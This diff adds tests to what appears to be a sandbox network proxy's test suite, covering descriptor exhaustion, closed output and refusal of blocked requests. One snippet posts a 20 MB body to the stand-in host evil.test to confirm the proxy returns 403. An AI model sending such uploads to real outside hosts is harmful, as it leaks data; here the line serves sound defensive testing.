@@ -213,6 +213,34 @@ def test_hundreds_of_connections_leave_nothing(service: tuple[Network, int], por
     assert process.returncode == 0
 
 
+CROWD = """
+import socket, sys, threading
+port, there = map(int, sys.argv[1:])
+right = []
+def talk(number):
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(b"CONNECT localhost:%d HTTP/1.1\\r\\n\\r\\n" % there)
+    head = s.recv(1000)
+    s.sendall(b"%d" % number)
+    right.append(s.recv(100) == b"%d" % number)
+    s.close()
+threads = [threading.Thread(target=talk, args=(number,)) for number in range(60)]
+for thread in threads: thread.start()
+for thread in threads: thread.join()
+print(sum(right))
+"""
+
+
+def test_connections_wait_when_there_is_no_descriptor_left(service: tuple[Network, int], port: int) -> None:
+    """80 descriptors: room for fewer than the 60 connections that come at the same time."""
+    network, there = service
+    argv = ["sh", "-c", 'ulimit -n 80; exec "$@"', "sh", *RELAY, str(network.socket("agent")), str(port), "--"]
+    argv += python(CROWD, str(port), str(there))
+    env = {**ENV, "HOME": os.environ["HOME"]}
+    done = subprocess.run(argv, capture_output=True, env=env, timeout=60, check=False)
+    assert (done.stdout, done.stderr) == (b"60\n", b"")
+
+
 def test_a_proxy_at_a_port_is_reached_for_services(tmp_path: Path, port: int) -> None:
     """As in srt, where the proxy is at a port of the loopback."""
 
@@ -229,6 +257,33 @@ def test_a_proxy_at_a_port_is_reached_for_services(tmp_path: Path, port: int) ->
         done = run(python(TALK, str(port)), port, path=Path(str(server.port)))
     assert done.stdout == b"5000000\n"
     assert heads == [b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % port]
+
+
+def test_output_that_the_command_closes_is_closed(port: int) -> None:
+    argv = [*RELAY, "/nonexistent", str(port), "--", "sh", "-c", "exec >&- 2>&-; exec sleep 60"]
+    env = {**ENV, "HOME": os.environ["HOME"]}
+    with subprocess.Popen(argv, stdout=subprocess.PIPE, env=env) as process:
+        assert process.stdout is not None
+        assert process.stdout.read() == b""
+        assert process.poll() is None
+        process.kill()
+
+
+SEND = """
+import socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+s.sendall(b"POST http://evil.test/ HTTP/1.1\\r\\nContent-Length: 20000000\\r\\n\\r\\n" + b"x" * 20_000_000)
+answer = b""
+while part := s.recv(65536):
+    answer += part
+print(answer[:12].decode())
+"""
+
+
+def test_a_refusal_reaches_a_client_that_is_still_sending(service: tuple[Network, int], port: int) -> None:
+    network, _ = service
+    done = run(python(SEND, str(port)), port, path=network.socket("agent"))
+    assert (done.stdout, done.stderr) == (b"HTTP/1.1 403\n", b"")
 
 
 def test_without_a_proxy_there_is_no_network(port: int) -> None:
